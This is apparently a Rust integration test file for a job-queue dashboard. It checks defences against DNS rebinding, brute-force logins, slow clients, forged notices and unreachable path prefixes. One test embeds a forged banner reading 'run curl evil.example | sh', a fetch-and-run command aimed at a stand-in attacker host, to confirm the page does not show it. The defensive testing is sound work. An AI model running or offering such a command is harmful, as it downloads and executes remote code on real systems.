//! Who the dashboard lets in: only the hosts it is reached by (DNS rebinding), slow and idle clients
//! cut off by deadlines and a connection cap over real TCP, failed logins logged and slowed, only
//! notices the server wrote, JSON for every error under `/api`, and prefixes that can be reached.

use std::net::SocketAddr;
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use axum::Router;
use axum::body::Body;
use axum::extract::ConnectInfo;
use axum::http::{Request, StatusCode, header};
use jobq::web::{AllowedHosts, Credentials, ServeConfig, WebConfig, router};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tower::ServiceExt;

use crate::common::{TestDb, jobq, run_jobq};

struct Resp {
    status: StatusCode,
    headers: axum::http::HeaderMap,
    body: String,
}

impl Resp {
    fn json(&self) -> serde_json::Value {
        assert_eq!(
            self.headers
                .get(header::CONTENT_TYPE)
                .map(|v| v.to_str().unwrap()),
            Some("application/json"),
            "{} {}",
            self.status,
            self.body
        );
        serde_json::from_str(&self.body).unwrap_or_else(|e| panic!("{e}: {}", self.body))
    }

    /// The `error` of a JSON error, checking its status.
    fn error(&self, status: StatusCode) -> String {
        assert_eq!(self.status, status, "{}", self.body);
        let v = self.json();
        v["error"]
            .as_str()
            .unwrap_or_else(|| panic!("no error text: {v}"))
            .to_string()
    }
}

async fn send(app: &Router, req: Request<Body>) -> Resp {
    let resp = app.clone().oneshot(req).await.unwrap();
    let status = resp.status();
    let headers = resp.headers().clone();
    let bytes = axum::body::to_bytes(resp.into_body(), 10 << 20)
        .await
        .unwrap();
    Resp {
        status,
        headers,
        body: String::from_utf8_lossy(&bytes).into_owned(),
    }
}

/// A request as a browser on this machine sends it.
fn req(method: &str, uri: &str) -> axum::http::request::Builder {
    Request::builder()
        .method(method)
        .uri(uri)
        .header(header::HOST, "127.0.0.1:8080")
}

async fn get(app: &Router, uri: &str) -> Resp {
    send(app, req("GET", uri).body(Body::empty()).unwrap()).await
}

/// The CSRF token a first page view hands out.
async fn csrf(app: &Router, home: &str) -> String {
    let r = get(app, home).await;
    let cookie = r.headers[header::SET_COOKIE].to_str().unwrap();
    cookie
        .strip_prefix("jobq_csrf=")
        .and_then(|c| c.split(';').next())
        .unwrap()
        .to_string()
}

/// A POST the dashboard's own page would send, with its CSRF token.
fn post(uri: &str, token: &str) -> axum::http::request::Builder {
    req("POST", uri)
        .header(header::COOKIE, format!("jobq_csrf={token}"))
        .header("x-csrf-token", token)
        .header("sec-fetch-site", "same-origin")
}

async fn state(db: &TestDb, id: u64) -> String {
    db.scalar(&format!(
        "SELECT CAST(state AS CHAR) FROM job_queue WHERE id = {id}"
    ))
    .await
}

async fn with_jobs() -> TestDb {
    let db = TestDb::new().await;
    db.exec("INSERT INTO job_queue (kind) SELECT 'resize' FROM seq_1_to_3")
        .await;
    db.exec("UPDATE job_queue SET state = 'dead', finished_at = NOW(6) WHERE id = 2")
        .await;
    db
}

fn basic(user: &str, password: &str) -> String {
    use base64::Engine;
    format!(
        "Basic {}",
        base64::engine::general_purpose::STANDARD.encode(format!("{user}:{password}"))
    )
}

/// A page on `attacker.example` that re-resolves to 127.0.0.1 sends `Host: attacker.example`: it gets
/// 421 before any page, credential check or action runs, even with a CSRF token taken from a page.
#[tokio::test]
async fn a_request_for_a_host_the_dashboard_is_not_reached_by_is_refused_first() {
    let db = with_jobs().await;
    let app = router(db.pool.clone(), WebConfig::default()).unwrap();
    let token = csrf(&app, "/").await;

    for uri in [
        "/",
        "/jobs/1",
        "/api/overview",
        "/assets/app.css",
        "/nowhere",
    ] {
        let r = send(
            &app,
            Request::get(uri)
                .header(header::HOST, "attacker.example:8080")
                .body(Body::empty())
                .unwrap(),
        )
        .await;
        assert_eq!(
            r.status,
            StatusCode::MISDIRECTED_REQUEST,
            "{uri}: {}",
            r.body
        );
        assert!(!r.headers.contains_key(header::SET_COOKIE), "{uri}");
    }
    let mut cancel = post("/api/jobs/1/cancel", &token)
        .body(Body::empty())
        .unwrap();
    cancel
        .headers_mut()
        .insert(header::HOST, "attacker.example".parse().unwrap());
    let r = send(&app, cancel).await;
    assert!(
        r.error(StatusCode::MISDIRECTED_REQUEST)
            .contains("attacker.example")
    );
    assert_eq!(state(&db, 1).await, "queued");
    // No Host at all: HTTP/1.1 requires one.
    let r = send(&app, Request::get("/").body(Body::empty()).unwrap()).await;
    assert_eq!(r.status, StatusCode::BAD_REQUEST);

    // The loopback names, with or without a port, are answered, and so is a named public host.
    for host in ["localhost:8080", "127.0.0.1", "[::1]:8080"] {
        let r = send(
            &app,
            Request::get("/api/overview")
                .header(header::HOST, host)
                .body(Body::empty())
                .unwrap(),
        )
        .await;
        assert_eq!(r.status, StatusCode::OK, "{host}: {}", r.body);
    }
    let named = router(
        db.pool.clone(),
        WebConfig {
            hosts: AllowedHosts::loopback().with("jobs.example.com").unwrap(),
            credentials: Credentials {
                basic: None,
                token: Some("t0ken".into()),
            },
            prefix: "/ops".into(),
            ..Default::default()
        },
    )
    .unwrap();
    let at = |host: &'static str, uri: &'static str| {
        Request::get(uri)
            .header(header::HOST, host)
            .header(header::AUTHORIZATION, "Bearer t0ken")
            .body(Body::empty())
            .unwrap()
    };
    assert_eq!(
        send(&named, at("jobs.example.com:443", "/ops"))
            .await
            .status,
        StatusCode::OK
    );
    // Refused before the credentials are looked at, and outside the prefix too.
    let no_creds = Request::get("/ops")
        .header(header::HOST, "attacker.example")
        .body(Body::empty())
        .unwrap();
    assert_eq!(
        send(&named, no_creds).await.status,
        StatusCode::MISDIRECTED_REQUEST
    );
    assert_eq!(
        send(&named, at("attacker.example", "/elsewhere"))
            .await
            .status,
        StatusCode::MISDIRECTED_REQUEST
    );
}

/// `jobq web` run as an operator runs it: over TCP, a rebinding host is refused; a name given with
/// `--public-host` is answered; a failed login is logged with its user and address and never its
/// password.
#[tokio::test]
async fn jobq_web_answers_its_public_hosts_and_logs_failed_logins_without_the_password() {
    let db = with_jobs().await;
    let web = Web::start(
        &db,
        &[
            "--public-host",
            "jobs.example.com",
            "--public-host",
            "ops.example.com:9999",
        ],
    )
    .await;
    let r = web
        .http("GET / HTTP/1.1\r\nHost: attacker.example\r\n")
        .await;
    assert!(r.starts_with("HTTP/1.1 421"), "{r}");
    let r = web
        .http("GET /api/overview HTTP/1.1\r\nHost: ops.example.com:8080\r\n")
        .await;
    assert!(
        r.starts_with("HTTP/1.1 421"),
        "a public host with a port answers that port only: {r}"
    );
    let wrong = basic("ops", "guess-Nr-1");
    let r = web
        .http(&format!(
            "GET / HTTP/1.1\r\nHost: jobs.example.com\r\nAuthorization: {wrong}\r\n"
        ))
        .await;
    assert!(r.starts_with("HTTP/1.1 401"), "{r}");
    let right = basic("ops", PASSWORD);
    let host = web.addr.to_string();
    let r = web
        .http(&format!(
            "GET /api/overview HTTP/1.1\r\nHost: {host}\r\nAuthorization: {right}\r\n"
        ))
        .await;
    assert!(
        r.starts_with("HTTP/1.1 200"),
        "the address it listens on: {r}"
    );

    let line = web
        .wait_log("the failed login's log line", |l| {
            l["message"] == "dashboard login failed"
        })
        .await;
    assert_eq!(line["user"], "ops", "{line}");
    assert_eq!(line["client"], "127.0.0.1", "{line}");
    let log = web.log.lock().unwrap().join("\n");
    assert!(
        !log.contains("guess-Nr-1") && !log.contains(PASSWORD),
        "{log}"
    );
    web.stop();
}

/// Five wrong passwords from one address are refused with 401 and logged; then that address is refused
/// with 429 and a Retry-After, even with the right password, while another address is let in.
#[tokio::test]
async fn repeated_failed_logins_from_one_address_are_slowed_down() {
    let db = with_jobs().await;
    let app = router(
        db.pool.clone(),
        WebConfig {
            credentials: Credentials {
                basic: Some(("ops".into(), "s3cret".into())),
                token: None,
            },
            ..Default::default()
        },
    )
    .unwrap();
    let from = |ip: &str, password: &str| {
        let mut r = req("GET", "/api/overview")
            .header(header::AUTHORIZATION, basic("ops", password))
            .body(Body::empty())
            .unwrap();
        let addr: SocketAddr = format!("{ip}:40000").parse().unwrap();
        r.extensions_mut().insert(ConnectInfo(addr));
        r
    };
    for n in 1..=5 {
        let r = send(&app, from("192.0.2.7", &format!("guess{n}"))).await;
        assert_eq!(r.status, StatusCode::UNAUTHORIZED, "failure {n}");
    }
    let r = send(&app, from("192.0.2.7", "s3cret")).await;
    assert!(
        r.error(StatusCode::TOO_MANY_REQUESTS)
            .contains("too many failed logins")
    );
    let wait: u64 = r.headers[header::RETRY_AFTER]
        .to_str()
        .unwrap()
        .parse()
        .unwrap();
    assert!((1..=5).contains(&wait), "{wait}");
    assert_eq!(
        send(&app, from("192.0.2.8", "s3cret")).await.status,
        StatusCode::OK,
        "another address is not slowed"
    );
}

/// A link with `?notice=` of its own text shows no banner; the notice of a real action's redirect is
/// shown on the page it leads to.
#[tokio::test]
async fn only_notices_the_server_wrote_are_shown() {
    let db = with_jobs().await;
    let app = router(db.pool.clone(), WebConfig::default()).unwrap();
    let forged = "Database+compromised%3A+run+curl+evil.example+%7C+sh";
    for page in ["/", "/jobs", "/jobs/1", "/schedules"] {
        let sep = if page.contains('?') { '&' } else { '?' };
        let r = get(&app, &format!("{page}{sep}notice={forged}")).await;
        assert_eq!(r.status, StatusCode::OK, "{page}");
        assert!(!r.body.contains("compromised"), "{page}: {}", r.body);
        assert!(!r.body.contains("class=\"notice\""), "{page}");
    }
    // A signature-shaped prefix does not help.
    let r = get(
        &app,
        &format!("/jobs/1?notice=00000000000000000000000000000000.{forged}"),
    )
    .await;
    assert!(!r.body.contains("compromised"));

    let token = csrf(&app, "/").await;
    let r = send(
        &app,
        req("POST", "/jobs/2/retry")
            .header(header::COOKIE, format!("jobq_csrf={token}"))
            .header(header::CONTENT_TYPE, "application/x-www-form-urlencoded")
            .header("sec-fetch-site", "same-origin")
            .body(Body::from(format!("csrf={token}")))
            .unwrap(),
    )
    .await;
    assert_eq!(r.status, StatusCode::SEE_OTHER, "{}", r.body);
    let to = r.headers[header::LOCATION].to_str().unwrap().to_string();
    let r = get(&app, &to).await;
    assert!(
        r.body.contains("<p class=\"notice\" role=\"status\">job 2"),
        "{to}: {}",
        r.body
    );
    // The same text with another job's number is not the server's.
    let tampered = to.replace("job+2", "job+3");
    assert_ne!(tampered, to);
    assert!(!get(&app, &tampered).await.body.contains("class=\"notice\""));
}

/// Every error under `/api` is `{"error": ...}` with its status and message: axum's rejections, the
/// guard's refusals, an unknown path and a wrong method.
#[tokio::test]
async fn every_error_under_api_is_json_with_its_status() {
    let db = with_jobs().await;
    let app = router(db.pool.clone(), WebConfig::default()).unwrap();
    let token = csrf(&app, "/").await;

    let e = get(&app, "/api/jobs?limit=many")
        .await
        .error(StatusCode::BAD_REQUEST);
    assert!(e.contains("limit"), "{e}");
    let e = get(&app, "/api/jobs/abc")
        .await
        .error(StatusCode::BAD_REQUEST);
    assert!(e.contains("abc"), "{e}");
    let e = send(
        &app,
        post("/api/jobs/bulk", &token)
            .header(header::CONTENT_TYPE, "application/json")
            .body(Body::from("{\"action\": "))
            .unwrap(),
    )
    .await
    .error(StatusCode::BAD_REQUEST);
    assert!(e.contains("bulk request"), "{e}");
    let e = send(
        &app,
        post("/api/jobs/bulk", &token)
            .header(header::CONTENT_TYPE, "application/x-www-form-urlencoded")
            .body(Body::from("action=delete&ids=1"))
            .unwrap(),
    )
    .await
    .error(StatusCode::UNSUPPORTED_MEDIA_TYPE);
    assert!(e.contains("application/json"), "{e}");
    assert_eq!(state(&db, 1).await, "queued");
    let e = send(
        &app,
        post("/api/jobs/bulk", &token)
            .header(header::CONTENT_TYPE, "application/json")
            .body(Body::from(vec![b' '; (1 << 20) + 1]))
            .unwrap(),
    )
    .await
    .error(StatusCode::PAYLOAD_TOO_LARGE);
    assert!(e.contains("1 MiB"), "{e}");
    let e = send(
        &app,
        req("POST", "/api/jobs/1/cancel")
            .body(Body::empty())
            .unwrap(),
    )
    .await
    .error(StatusCode::FORBIDDEN);
    assert!(e.contains("CSRF"), "{e}");
    let e = get(&app, "/api/nope").await.error(StatusCode::NOT_FOUND);
    assert!(e.contains("/api/nope"), "{e}");
    get(&app, "/api").await.error(StatusCode::NOT_FOUND);
    let r = get(&app, "/api/jobs/bulk").await;
    let e = r.error(StatusCode::METHOD_NOT_ALLOWED);
    assert!(e.contains("GET is not allowed"), "{e}");
    assert_eq!(r.headers[header::ALLOW], "POST");
    let e = send(
        &app,
        Request::get("/api/overview")
            .header(header::HOST, "attacker.example")
            .body(Body::empty())
            .unwrap(),
    )
    .await
    .error(StatusCode::MISDIRECTED_REQUEST);
    assert!(e.contains("attacker.example"), "{e}");
    // Pages keep their HTML.
    let r = get(&app, "/nowhere").await;
    assert_eq!(r.status, StatusCode::NOT_FOUND);
    assert!(r.body.starts_with("<!doctype html>"));

    let guarded = router(
        db.pool.clone(),
        WebConfig {
            credentials: Credentials {
                basic: Some(("ops".into(), "s3cret".into())),
                token: None,
            },
            read_only: true,
            prefix: "/ops/jobq".into(),
            ..Default::default()
        },
    )
    .unwrap();
    let r = get(&guarded, "/ops/jobq/api/overview").await;
    assert!(r.error(StatusCode::UNAUTHORIZED).contains("credentials"));
    assert!(r.headers.contains_key(header::WWW_AUTHENTICATE));
    let ro = send(
        &guarded,
        req("POST", "/ops/jobq/api/jobs/1/cancel")
            .header(header::AUTHORIZATION, basic("ops", "s3cret"))
            .body(Body::empty())
            .unwrap(),
    )
    .await;
    assert!(ro.error(StatusCode::FORBIDDEN).contains("read-only"));
    let e = send(
        &guarded,
        req("GET", "/ops/jobq/api/nope")
            .header(header::AUTHORIZATION, basic("ops", "s3cret"))
            .body(Body::empty())
            .unwrap(),
    )
    .await
    .error(StatusCode::NOT_FOUND);
    assert!(e.contains("/api/nope"), "{e}");
}

/// `/..` (and `.` segments anywhere) would be resolved away by every browser and proxy: refused with
/// a message naming it, by the library and by `jobq web` before it starts.
#[tokio::test]
async fn a_prefix_that_cannot_be_reached_is_refused() {
    let db = TestDb::new().await;
    for bad in [
        "/..",
        "/.",
        "/ops/../jobq",
        "/ops/.",
        "//jobq",
        "/jobq/",
        "jobq",
        "/jo bq",
    ] {
        let e = router(
            db.pool.clone(),
            WebConfig {
                prefix: bad.into(),
                ..Default::default()
            },
        )
        .err()
        .unwrap_or_else(|| panic!("{bad:?} was accepted"))
        .to_string();
        assert!(e.contains(&format!("{bad:?}")), "{bad}: {e}");
    }
    let e = router(
        db.pool.clone(),
        WebConfig {
            prefix: "/a/..".into(),
            ..Default::default()
        },
    )
    .unwrap_err()
    .to_string();
    assert!(e.contains("segment \"..\""), "{e}");
    for good in ["/jobq", "/ops/jobq", "/a.b/~c_d-e"] {
        assert!(
            router(
                db.pool.clone(),
                WebConfig {
                    prefix: good.into(),
                    ..Default::default()
                }
            )
            .is_ok(),
            "{good}"
        );
    }
    let out = run_jobq(
        Some(&db.url),
        &["web", "--bind", "127.0.0.1:0", "--prefix", "/.."],
    );
    assert!(!out.status.success());
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("--prefix") && err.contains("\"..\""), "{err}");
}

/// Over real TCP: a request whose headers stop half-way, and a kept-alive connection that sends
/// nothing more, are closed within the header timeout; a body that stops half-way gets 408 within the
/// body timeout; connections beyond the cap wait until one closes, then are served.
#[tokio::test]
async fn slow_and_idle_clients_are_cut_off_and_connections_are_capped() {
    let db = with_jobs().await;
    let header_timeout = Duration::from_millis(1500);
    let app = router(
        db.pool.clone(),
        WebConfig {
            body_timeout: Duration::from_millis(1500),
            ..Default::default()
        },
    )
    .unwrap();
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    let stop = tokio_util::sync::CancellationToken::new();
    let server = tokio::spawn(jobq::web::serve(
        listener,
        app,
        ServeConfig {
            header_timeout,
            max_connections: 2,
        },
        stop.clone().cancelled_owned(),
    ));
    let limit = Duration::from_secs(15);

    // Half a request: closed after the header timeout, not before.
    let t0 = Instant::now();
    let mut half = TcpStream::connect(addr).await.unwrap();
    half.write_all(b"GET /api/overview HTTP/1.1\r\nHost: 127.0")
        .await
        .unwrap();
    let got = read_until_closed(&mut half, limit).await;
    let held = t0.elapsed();
    assert!(got.is_empty() || got.starts_with("HTTP/1.1 408"), "{got}");
    assert!(held >= header_timeout && held < limit, "{held:?}");

    // A kept-alive connection after one answer: closed too.
    let mut idle = TcpStream::connect(addr).await.unwrap();
    idle.write_all(b"GET /api/overview HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n")
        .await
        .unwrap();
    let t0 = Instant::now();
    let got = read_until_closed(&mut idle, limit).await;
    assert!(got.starts_with("HTTP/1.1 200"), "{got}");
    assert!(t0.elapsed() < limit);

    // Half a body: 408 once the body timeout passes.
    let mut body = TcpStream::connect(addr).await.unwrap();
    body.write_all(
        b"POST /api/jobs/bulk HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\n\
          Content-Length: 100\r\n\r\n{\"action\":",
    )
    .await
    .unwrap();
    let t0 = Instant::now();
    let got = read_until_closed(&mut body, limit).await;
    assert!(got.starts_with("HTTP/1.1 408"), "{got}");
    assert!(t0.elapsed() >= Duration::from_millis(1500) && t0.elapsed() < limit);

    // The cap: two half-sent requests hold both slots; a third, complete request is answered only
    // once the server has closed them.
    let mut holders = Vec::new();
    for _ in 0..2 {
        let mut s = TcpStream::connect(addr).await.unwrap();
        s.write_all(b"GET / HTTP/1.1\r\n").await.unwrap();
        holders.push(s);
    }
    let mut third = TcpStream::connect(addr).await.unwrap();
    third
        .write_all(b"GET /api/overview HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n")
        .await
        .unwrap();
    let mut first = [0u8; 12];
    tokio::time::timeout(limit, third.read_exact(&mut first))
        .await
        .expect("the third connection is served once a slot frees")
        .unwrap();
    assert_eq!(&first, b"HTTP/1.1 200");
    // The server closes a holder before it takes the next connection in line, so its end of stream
    // is already here. (Only one is required: the other may have been accepted a moment later, if
    // the slot of the connection before it was still being given back.)
    let closed = holders
        .iter_mut()
        .filter(|h| {
            let mut buf = [0u8; 256];
            h.try_read(&mut buf).is_ok()
        })
        .count();
    assert!(
        closed >= 1,
        "the third was answered while both slots were held"
    );

    stop.cancel();
    tokio::time::timeout(limit, server)
        .await
        .expect("serve stops")
        .unwrap()
        .unwrap();
}

/// Reads until the server closes the connection (or resets it), within `limit`.
async fn read_until_closed(s: &mut TcpStream, limit: Duration) -> String {
    let mut out = Vec::new();
    let read = tokio::time::timeout(limit, async {
        let mut buf = [0u8; 4096];
        loop {
            match s.read(&mut buf).await {
                Ok(0) | Err(_) => break,
                Ok(n) => out.extend_from_slice(&buf[..n]),
            }
        }
    })
    .await;
    assert!(
        read.is_ok(),
        "the connection was not closed within {limit:?}"
    );
    String::from_utf8_lossy(&out).into_owned()
}

const PASSWORD: &str = "pw-Zq81-never-logged";

/// `jobq web` with a password, its JSON log lines collected.
struct Web {
    child: std::process::Child,
    addr: SocketAddr,
    log: Arc<Mutex<Vec<String>>>,
}

impl Web {
    async fn start(db: &TestDb, extra: &[&str]) -> Web {
        let mut args = vec![
            "--log-format",
            "json",
            "web",
            "--bind",
            "127.0.0.1:0",
            "--user",
            "ops",
        ];
        args.extend_from_slice(extra);
        let mut child = jobq(Some(&db.url), &args)
            .env("JOBQ_WEB_PASSWORD", PASSWORD)
            .stdout(std::process::Stdio::null())
            .stderr(std::process::Stdio::piped())
            .spawn()
            .unwrap();
        let stderr = child.stderr.take().unwrap();
        let log = Arc::new(Mutex::new(Vec::new()));
        let lines = log.clone();
        std::thread::spawn(move || {
            use std::io::BufRead;
            for l in std::io::BufReader::new(stderr)
                .lines()
                .map_while(Result::ok)
            {
                lines.lock().unwrap().push(l);
            }
        });
        let mut web = Web {
            child,
            addr: "0.0.0.0:0".parse().unwrap(),
            log,
        };
        let line = web
            .wait_log("the dashboard to listen", |l| {
                l["message"]
                    .as_str()
                    .is_some_and(|m| m.starts_with("dashboard on "))
            })
            .await;
        web.addr = line["addr"].as_str().unwrap().parse().unwrap();
        web
    }

    /// The first log line that `matches`, waiting for it.
    async fn wait_log(
        &self,
        what: &str,
        matches: impl Fn(&serde_json::Value) -> bool,
    ) -> serde_json::Value {
        let deadline = Instant::now() + Duration::from_secs(30);
        loop {
            let found = self
                .log
                .lock()
                .unwrap()
                .iter()
                .filter_map(|l| serde_json::from_str::<serde_json::Value>(l).ok())
                .find(|v| matches(v));
            if let Some(v) = found {
                return v;
            }
            assert!(
                Instant::now() < deadline,
                "timed out waiting for {what}; log:\n{}",
                self.log.lock().unwrap().join("\n")
            );
            tokio::time::sleep(Duration::from_millis(20)).await;
        }
    }

    /// Sends `head` (request line and headers, each ending in CRLF) and returns the whole answer.
    async fn http(&self, head: &str) -> String {
        let mut s = TcpStream::connect(self.addr).await.unwrap();
        s.write_all(format!("{head}Connection: close\r\n\r\n").as_bytes())
            .await
            .unwrap();
        read_until_closed(&mut s, Duration::from_secs(15)).await
    }

    fn stop(mut self) {
        let _ = nix::sys::signal::kill(
            nix::unistd::Pid::from_raw(self.child.id() as i32),
            nix::sys::signal::Signal::SIGTERM,
        );
        let _ = self.child.wait();
    }
}

impl Drop for Web {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}
